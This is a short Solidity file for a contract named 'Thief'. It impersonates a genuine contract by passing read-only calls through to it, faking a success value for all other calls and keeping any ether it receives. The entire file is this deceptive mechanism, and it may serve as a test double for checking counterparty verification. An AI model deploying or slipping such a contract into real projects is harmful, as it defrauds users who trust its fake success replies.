// SPDX-License-Identifier: MIT
pragma solidity ^0.8.27;

/// @notice A contract that answers every read as a genuine one does, accepts every other call, and keeps what it is paid.
contract Thief {
    address private immutable _genuine;

    constructor(address genuine) {
        _genuine = genuine;
    }

    fallback(bytes calldata input) external payable returns (bytes memory output) {
        bool isRead;
        (isRead, output) = _genuine.staticcall(input);
        if (!isRead) output = abi.encode(uint256(1));
    }
}
